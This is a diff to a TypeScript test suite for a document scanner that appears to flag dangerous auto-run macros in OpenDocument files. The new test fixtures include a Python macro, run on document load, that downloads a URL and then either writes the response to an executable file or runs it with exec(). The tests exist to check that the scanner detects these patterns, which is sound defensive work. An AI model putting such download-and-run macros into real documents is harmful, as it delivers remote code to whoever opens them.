@@ -8,7 +8,7 @@ import { writeZip } from '#inspect/testing/zip-writer.ts'
 const inspector = useInspector()
 
 const ROOT = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
-const NOTICES = new Set(['Docvet.Odf.Macro', 'Docvet.Office.ExternalLinks'])
+const NOTICES = new Set(['Docvet.Odf.Macro', 'Docvet.Office.ExternalLinks', 'Docvet.Script.File'])
 
 function idsOf(content: string, parts: Record<string, string> = {}): string[] {
   const all = {
@@ -62,6 +62,13 @@ suite('a macro that starts a program', () => {
       assert.deepEqual(accused(idsOf(event('dom:load', 'a.py$main'), { 'Scripts/python/a.py': source })), [
         'Docvet.Odf.AutoMacro',
       ])
+    const fetching = (source: string): string[] =>
+      accused(idsOf(event('dom:load', 'a.py$main'), { 'Scripts/python/a.py': source }))
+    const fetch =
+      'import urllib.request\ndef main():\n  x = urllib.request.urlopen("https://example.com/rates.json").read()\n'
+    assert.deepEqual(fetching(fetch), ['Docvet.Odf.AutoFetch'])
+    assert.ok(fetching(`${fetch}  open("a.exe", "wb").write(x)\n`).includes('Docvet.Odf.AutoMacro'))
+    assert.ok(fetching(`${fetch}  exec(x)\n`).includes('Docvet.Odf.AutoMacro'))
     const harmless = { 'Scripts/python/a.py': 'import os\ndef main(*a):\n  x = getattr(a, "Title")\n' }
     assert.deepEqual(accused(idsOf(event('dom:load', 'a.py$main'), harmless)), [])
   })
